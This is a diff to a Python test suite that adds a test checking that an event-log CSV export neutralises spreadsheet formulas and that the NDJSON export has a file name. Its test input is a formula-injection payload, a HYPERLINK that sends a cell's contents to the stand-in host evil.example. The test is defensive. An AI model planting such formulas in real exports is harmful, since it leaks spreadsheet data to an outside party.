@@ -200,6 +200,28 @@ async def test_export_streams_ndjson_and_csv(
     assert code == 0 and [row["id"] for row in csv.DictReader(io.StringIO(out))] == ids[::-1]
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+async def test_csv_export_neutralises_formulas_and_ndjson_has_a_file_name(
+    gpb: Gpb, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], start: str
+) -> None:
+    course = str(910 + "=+-@\t\r".index(start))
+    formula = f'{start}HYPERLINK("http://evil.example/?x="&A1,"open")'
+    event = in_course("submission_created", course, "formula")
+    event["metadata"]["event_name"] = formula  # an unknown event name: stored and ignored
+    await post_all(gpb, [event])
+    exported = await gpb.admin_get("/api/events/export", course_id=course, format="csv")
+    (row,) = csv.DictReader(io.StringIO(exported.text))
+    assert row["event_name"] == "'" + formula
+    code, out = await cli(
+        gpb, monkeypatch, capsys, "events", "export", "--course", course, "--format", "csv"
+    )
+    assert code == 0
+    assert next(csv.DictReader(io.StringIO(out)))["event_name"] == "'" + formula
+    ndjson = await gpb.admin_get("/api/events/export", course_id=course, format="ndjson")
+    assert ndjson.headers["content-disposition"] == 'attachment; filename="gpb-events.ndjson"'
+    assert json.loads(ndjson.text)["event_name"] == formula  # data, not a spreadsheet: as sent
+
+
 async def test_replay_through_the_api_and_the_cli(
     gpb: Gpb, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
 ) -> None:
